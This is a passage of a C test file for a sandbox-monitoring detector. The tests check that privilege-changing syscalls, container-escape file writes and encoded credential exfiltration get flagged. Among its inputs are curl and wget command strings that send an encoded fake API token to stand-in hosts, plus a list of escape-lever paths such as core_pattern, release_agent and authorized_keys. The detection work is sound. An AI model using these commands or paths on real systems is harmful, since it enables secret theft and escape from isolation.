        CHECK_EQ(has_fired(&f, DETECT_CRYPTO_MINING), built != 1);
        (void)watch_free(w);
    }
}

/* ---- calls ---- */

static size_t one_call(int nr, uint32_t error, uint64_t a, uint64_t b, uint64_t c)
{
    struct watch_event e = { .kind = WATCH_CALL, .nr = (uint32_t)nr, .error = error, .args = { a, b, c } };
    return run(medium(), (const struct watch_event *[]){ &e }, 1).count;
}

TEST(asking_for_the_ids_one_has_is_nothing_and_for_others_is_something)
{
    const uint64_t own = medium()->security.user.uid, group = medium()->security.user.gid;
    CHECK_EQ(one_call(NR_setuid, EPERM, own, 0, 0), 0); /* and what the other registers hold does not matter */
    CHECK_EQ(one_call(NR_setuid, EPERM, 0, 0, 0), 1);
    CHECK_EQ(one_call(NR_setuid, EPERM, own | UINT64_C(7) << 32, 0, 0), 0); /* the kernel takes 32 bits */
    CHECK_EQ(one_call(NR_setresuid, EPERM, UINT64_MAX, own, UINT32_MAX), 0);
    CHECK_EQ(one_call(NR_setresuid, EPERM, UINT64_MAX, own, 0), 1);
    CHECK_EQ(one_call(NR_setregid, EPERM, group, UINT32_MAX, 0), 0);
    CHECK_EQ(one_call(NR_setregid, EPERM, group, 0, 0), 1);
    CHECK_EQ(one_call(NR_setgroups, EPERM, 0, 0, 0), 0);
    CHECK_EQ(one_call(NR_setgroups, EPERM, 1, 0, 0), 1);
    CHECK_EQ(one_call(NR_mknodat, EPERM, 0, 0, S_IFBLK | 0600), 1);
    CHECK_EQ(one_call(NR_mknodat, EPERM, 0, 0, S_IFIFO | 04600), 0);
    CHECK_EQ(one_call(NR_chroot, EPERM, 0, 0, 0), 1);
    CHECK_EQ(one_call(NR_setuid, 0, 0, 0, 0), 1); /* let through, and asked for */
}

TEST(namespaces_tracing_and_mounts_are_told_from_what_only_looks_like_them)
{
    CHECK_EQ(one_call(NR_unshare, EPERM, CLONE_NEWUSER, 0, 0), 1);
    CHECK_EQ(one_call(NR_unshare, EPERM, CLONE_FS | CLONE_FILES, 0, 0), 0);
    CHECK_EQ(one_call(NR_clone, EPERM, CLONE_NEWNET | SIGCHLD, 0, 0), 1);
    CHECK_EQ(one_call(NR_clone, EAGAIN, CLONE_VM | SIGCHLD, 0, 0), 0);
    CHECK_EQ(one_call(NR_ptrace, EPERM, 0, 0, 0), 0);  /* PTRACE_TRACEME */
    CHECK_EQ(one_call(NR_ptrace, EPERM, 16, 4, 0), 1); /* PTRACE_ATTACH */
    CHECK_EQ(one_call(NR_mount, EPERM, 0, 0, 0), 1);
    CHECK_EQ(one_call(NR_capset, EPERM, 0, 0, 0), 1);
}

TEST(probes_of_runtimes_are_nothing)
{
    static const int probes[] = { NR_clone3, NR_statmount, NR_kcmp };
    for (size_t i = 0; i < ARRAY_LEN(probes); i++) {
        struct watch_event e = { .kind = WATCH_CALL, .nr = (uint32_t)probes[i], .error = ENOSYS };
        const struct watch_event *many[1000];
        for (size_t k = 0; k < ARRAY_LEN(many); k++)
            many[k] = &e;
        CHECK_EQ(run(medium(), many, ARRAY_LEN(many)).count, 0);
    }
    CHECK_EQ(one_call(NR_io_uring_setup, ENOSYS, 64, 0, 0), 0); /* libuv */
    CHECK_EQ(one_call(NR_io_uring_setup, ENOSYS, 8, 0, 0), 1);
    CHECK_EQ(one_call(NR_io_uring_enter, ENOSYS, 0, 0, 0), 1);
    CHECK_EQ(one_call(NR_kill, 0, 1, 0, 0), 0); /* signal 0 asks */
    CHECK_EQ(one_call(NR_kill, 0, UINT32_MAX, SIGKILL, 0), 1);
    CHECK_EQ(one_call(NR_kill, 0, 77, SIGKILL, 0), 0);
}

TEST(asking_for_interfaces_is_nothing_and_changing_one_is_something)
{
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, SIOCGIFCONF, 0), 0); /* libuuid */
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, SIOCGIFHWADDR, 0), 0);
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, SIOCGIFMTU | UINT64_C(7) << 32, 0), 0); /* the kernel takes 32 bits */
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, 0x8946 /* SIOCETHTOOL */, 0), 0);
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, SIOCSIFFLAGS, 0), 1);
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, SIOCSIFADDR, 0), 1);
    CHECK_EQ(one_call(NR_ioctl, EPERM, 3, SIOCADDRT, 0), 1);
    CHECK_EQ(one_call(NR_ioctl, EPERM, 0, TIOCSTI, 0), 1);
}

TEST(files_that_are_levers_and_files_that_are_not)
{
    static const struct {
        const char *path;
        uint32_t flags;
        size_t expected;
    } cases[] = {
        { "/proc/sys/kernel/core_pattern", WATCH_FOR_WRITING, 1 },
        { "/proc/sys/kernel/core_pattern", 0, 0 },
        { "/proc/1/mem", WATCH_FOR_WRITING, 1 },
        { "/proc/self/mem", WATCH_FOR_WRITING, 0 },
        { "/etc/ld.so.preload", WATCH_FOR_WRITING, 1 },
        { "/sys/fs/cgroup/release_agent", WATCH_FOR_WRITING, 1 },
        { "/proc/self/oom_score_adj", WATCH_FOR_WRITING, 0 },
        { "/workspace/mem", WATCH_FOR_WRITING, 0 },
        { "/dev/null", WATCH_FOR_WRITING, 0 },
        { "/proc/self/uid_map", WATCH_FOR_WRITING, 1 },
        { "/etc/cron.d/x", WATCH_FOR_WRITING, 1 },
        { "/etc/.pwd.lock", WATCH_FOR_WRITING, 0 },
        { "//tmp/./../etc//passwd", WATCH_FOR_WRITING, 1 },
        { "/etc/../tmp/passwd", WATCH_FOR_WRITING, 0 },
        { "/proc/self/root/etc/passwd", WATCH_FOR_WRITING, 1 },
        { "/proc/1/root/proc/self/root/etc/passwd", WATCH_FOR_WRITING, 1 },
        { "/proc/self/fd/1", WATCH_FOR_WRITING, 0 },
        { "/workspace/etc/passwd", WATCH_FOR_WRITING, 0 },
        { "/root/.ssh/authorized_keys", WATCH_FOR_WRITING, 1 },
        { "../../..", WATCH_FOR_WRITING, 0 },
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct watch_event e = { .kind = WATCH_FILE, .text = cases[i].path, .flags = cases[i].flags };
        CHECK_EQ(run(medium(), (const struct watch_event *[]){ &e }, 1).count, cases[i].expected);
    }
}

static void count_line(void *context, uint64_t hash)
{
    *(uint32_t *)context += hash == encoded_hash("API_TOKEN=sk-0123456789", 23);
}

static bool has_encoded_line(const char *text)
{
    uint32_t count = 0;
    encoded_find(text, strlen(text), count_line, &count);
    return count > 0;
}

/* A=1\nAPI_TOKEN=sk-0123456789\nB=2\n */
#define IN_BASE64 "QT0xCkFQSV9UT0tFTj1zay0wMTIzNDU2Nzg5CkI9Mgo"
#define IN_HEX    "413d310a4150495f544f4b454e3d736b2d303132333435363738390a423d320a"

TEST(lines_of_credentials_are_found_encoded_and_not_as_they_are)
{
    CHECK(has_encoded_line(IN_BASE64 "="));
    CHECK(has_encoded_line("GET /pixel/" IN_BASE64 " HTTP/1.1\r\nX: y\r\n"));
    CHECK(has_encoded_line("GET /p.gif?d=" IN_BASE64 "&i=1"));
    CHECK(has_encoded_line("X-Trace: " IN_HEX "\r\n"));
    CHECK(has_encoded_line("abcdefg " IN_HEX));
    CHECK(has_encoded_line("q=A%3D1%0AAPI_TOKEN%3Dsk-0123456789%0AB%3D2"));
    /* base64(1) breaks its lines after 76 characters: 57 bytes, of which the last begin ours */
    CHECK(has_encoded_line("QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBCkFQSV9U\n"
                           "T0tFTj1zay0wMTIzNDU2Nzg5CkI9Mgo=\n"));
    CHECK(!has_encoded_line("A=1\nAPI_TOKEN=sk-0123456789\nB=2\n"));
    CHECK(!has_encoded_line("{\"content\":\"A=1\\nAPI_TOKEN=sk-0123456789\\nB=2\"}")); /* an agent tells its model */
    CHECK(!has_encoded_line("Authorization: Basic QVBJX1RPS0VOOnNrLTAxMjM0NTY3ODk="));
}

/* A program is started after the file was read, and then bytes go out. */
static size_t sent_with(const char *program, const char *argv)
{
    const uint64_t line = encoded_hash("API_TOKEN=sk-0123456789", 23);
    const struct watch_event file = { .kind = WATCH_FILE,
                                      .text = "/data/.env",
                                      .flags = WATCH_SETTINGS,
                                      .args = { 7, 90, line } },
                             exec = { .kind = WATCH_EXEC, .text = program, .argv = argv },
                             bytes = { .kind = WATCH_CLOSED,
                                       .family = AF_INET,
                                       .address = { 1 },
                                       .port = 443,
                                       .connection = 1,
                                       .bytes_out = 400,
                                       .bytes_in = 400,
                                       .name = "api.example" };
    return run(medium(), (const struct watch_event *[]){ &file, &exec, &bytes }, 3).count;
}

TEST(lines_of_a_file_in_the_arguments_of_what_sends_are_sent_and_a_value_in_its_place_is_not)
{
    CHECK_EQ(sent_with("/usr/bin/curl", "curl\x1f-H\x1fX-T: " IN_BASE64 "=\x1fhttps://a.example/"), 1);
    CHECK_EQ(sent_with("/usr/bin/wget", "wget\x1f-qO-\x1fhttps://a.example/?d=" IN_HEX), 1);
    CHECK_EQ(sent_with("/usr/bin/curl", "curl\x1f-d\x1f"
                                        "A=1\nAPI_TOKEN=sk-0123456789\nB=2\x1fhttps://a.example/"),
             1);
    CHECK_EQ(sent_with("/usr/bin/curl", "curl\x1f-d\x1fx=API_TOKEN=sk-0123456789\nB=2\x1fhttps://a.example/"), 1);
    CHECK_EQ(sent_with("/usr/bin/curl", "curl\x1f-d\x1f"
                                        "A=1\nAPI_TOKEN=sk-0123456789\x1fhttps://a.example/"),
             1);
    CHECK_EQ(sent_with("/usr/bin/curl", "curl\x1f-H\x1f"
                                        "Authorization: Bearer sk-0123456789\x1fhttps://a.example/"),
             0);
    CHECK_EQ(sent_with("/usr/bin/curl", "curl\x1f-d\x1f"
                                        "API_TOKEN=sk-0123456789\x1fhttps://a.example/"),
             0);
    CHECK_EQ(sent_with("/usr/bin/env", "env\x1f"
                                       "API_TOKEN=sk-0123456789\x1f./server"),
             0);
    CHECK_EQ(sent_with("/usr/bin/python3", "python3\x1f-c\x1fprint('" IN_BASE64 "')"), 0); /* sends nothing by itself */
}

TEST(habits_are_programs_hosts_files_of_consequence_and_refused_calls_each_once)
{
    struct habits h = { .count = 0 };
    struct buf b;
    buf_init(&b, 64 * KIB);
    const struct watch_event events[] = {
        { .kind = WATCH_EXEC, .text = "/usr/bin/curl" },
        { .kind = WATCH_EXEC, .text = "/usr/bin/curl" },
        { .kind = WATCH_EXEC, .text = "/bin/absent", .error = ENOENT },
        { .kind = WATCH_EXEC, .text = "/workspace/x1", .flags = WATCH_WRITABLE_PLACE },
        { .kind = WATCH_EXEC, .text = "/workspace/x2", .flags = WATCH_WRITABLE_PLACE },
        { .kind = WATCH_CONNECT, .family = AF_INET, .port = 443, .name = "pypi.org" },
        { .kind = WATCH_CONNECT, .family = AF_INET, .port = 53, .protocol = IPPROTO_UDP, .address = { 0x08080808 } },
        { .kind = WATCH_CONNECT, .family = AF_INET, .port = 22, .address = { 1 }, .verdict = WATCH_REFUSED },
        { .kind = WATCH_CONNECT, .family = AF_INET, .port = 22, .address = { 1 }, .flags = WATCH_INSIDE },
        { .kind = WATCH_FILE, .text = "/workspace/a.csv", .flags = WATCH_FOR_WRITING },
        { .kind = WATCH_FILE, .text = "/data/.env\n", .flags = WATCH_SETTINGS },
        { .kind = WATCH_CALL, .nr = (uint32_t)NR_bpf, .error = EPERM },
        { .kind = WATCH_CALL, .nr = (uint32_t)NR_kill },
    };
    for (size_t i = 0; i < ARRAY_LEN(events); i++)
        habits_add(&h, &events[i]);
    habits_print(&h, &b);
    CHECK_STR(b.data, "runs /usr/bin/curl\nruns a program of its own\nconnects to pypi.org:443\n"
                      "connects to 8.8.8.8:53/udp\nopens /data/.env\\x0a\nasks for bpf()\n");
    for (uint32_t i = 0; i < 1000; i++) {
        char path[600];
        (void)snprintf(path, sizeof path, "/bin/%u%0500u", i, i);
        habits_add(&h, &(struct watch_event){ .kind = WATCH_EXEC, .text = path });
    }
    CHECK_EQ(h.count, HABITS_MAX);
    buf_done(&b);
}

TEST(netlink_is_nothing_and_in_mode_bridge_neither_are_protocols_that_libraries_try)
{
    struct profile p = *medium();
    struct watch_event netlink = { .kind = WATCH_SOCKET, .args = { AF_NETLINK, SOCK_RAW, 0 } },
                       mptcp = { .kind = WATCH_SOCKET, .args = { AF_INET, SOCK_STREAM, 262 } },
                       packet = { .kind = WATCH_SOCKET, .args = { AF_PACKET, SOCK_RAW, 0 } };
    CHECK_EQ(run(&p, (const struct watch_event *[]){ &netlink }, 1).count, 0);
    CHECK_EQ(run(&p, (const struct watch_event *[]){ &mptcp }, 1).count, 1);
    p.network.mode = NETWORK_BRIDGE;
    CHECK_EQ(run(&p, (const struct watch_event *[]){ &mptcp }, 1).count, 0);
    CHECK_EQ(run(&p, (const struct watch_event *[]){ &packet }, 1).count, 1);
}

/* ---- recordings ---- */

TEST(every_byte_of_a_text_comes_back)
{
    char text[256];
    struct buf b;
    struct record r;
    for (int i = 0; i < 255; i++)
        text[i] = (char)(i + 1);
    text[255] = '\0';
    struct watch_event e = { .kind = WATCH_NAME,
                             .at_us = UINT64_MAX,
                             .args = { UINT64_MAX, 1, 2 },
                             .name = text,
                             .argv = "",
                             .flags = 63,
                             .family = AF_INET6,
                             .address = { 1, UINT64_MAX },
                             .nr = UINT32_MAX,
                             .error = 4095,
                             .stdio0 = 6,
                             .stdio_id2 = 3 };
    buf_init(&b, RECORD_LINE_MAX);
    CHECK_EQ(record_write(&b, &e), 0);
    for (size_t i = 0; i + 1 < b.size; i++)
        CHECK(b.data[i] >= 0x20 && b.data[i] < 0x7f);
    CHECK_EQ(record_read(b.data, b.size - 1, &r, NULL), 0);
    CHECK_STR(r.event.name, text);
    CHECK_STR(r.event.argv, "");
    CHECK(!r.event.text);
    r.event.name = e.name, r.event.argv = e.argv;
    CHECK(memcmp(&r.event, &e, sizeof e) == 0);
    buf_done(&b);
}

TEST(a_damaged_recording_is_refused_with_the_member)
{
    static const struct {
        const char *line, *expected;
    } cases[] = { { "", "not a flat JSON object" },
                  { "{}", "at_us: missing" },
                  { "{\"at_us\":1}", "kind: missing" },
                  { "{\"at_us\":1,\"kind\":\"party\"}", "kind: no word" },
                  { "{\"at_us\":1,\"kind\":\"end\"} ", "not a flat" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"at_us\":2}", "not a flat" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"mood\":1}", "not a flat" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"pid\":-1}", "not a flat" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"pid\":null}", "not a flat" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"pid\":4294967296}", "pid: too large" },
                  { "{\"at_us\":18446744073709551616,\"kind\":\"end\"}", "not a flat" },
                  { "{\"at_us\":1,\"kind\":\"call\",\"call\":\"frobnicate\"}", "call: this machine" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"text\":\"\\u0000\"}", "text: an escape" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"text\":\"\\u0141\"}", "text: an escape" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"text\":\"\\n\"}", "text: an escape" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"text\":\"\xc3\xa9\"}", "text: a byte" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"flags\":\"inside inside\"}", "flags: unknown" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"flags\":\"\"}", "flags: unknown" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"address\":\"1.2.3\"}", "address: neither" },
                  { "{\"at_us\":1,\"kind\":\"end\",\"family\":2}", "family: " } };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct record r;
        struct error err = { 0 };
        CHECK(record_read(cases[i].line, strlen(cases[i].line), &r, &err) < 0);
        if (!str_starts(err.text, cases[i].expected))
            (void)fprintf(stderr, "# %s: %s\n", cases[i].line, err.text);
        CHECK(str_starts(err.text, cases[i].expected) && err.blame == BLAME_CALLER);
    }
}

/* ---- the page ---- */

TEST(the_page_on_detectors_has_every_threshold_with_its_default)
{
    static char page[64 * 1024];
    FILE *f = fopen(SOURCE_DIR "/docs/detectors.md", "re");
    CHECK(f);
    page[fread(page, 1, sizeof page - 1, f)] = '\0';
    (void)fclose(f);
    for (size_t i = 0; i < profile_settings.count; i++) {
        const struct setting *s = &profile_settings.table[i];
        char row[256];
        if (!str_starts(s->key, "detectors."))
            continue;
        (void)snprintf(row, sizeof row, "| `%s` | %s |", s->key + strlen("detectors."), s->preset);
        if (!strstr(page, row))
            (void)fprintf(stderr, "# docs/detectors.md lacks %s\n", row);
        CHECK(strstr(page, row));
    }
    for (enum detector d = 0; d < DETECTOR_COUNT; d++) {
        char row[128];
        (void)snprintf(row, sizeof row, "\n| `%s` |", detector_names[d]);
        CHECK(strstr(page, row));
    }
}
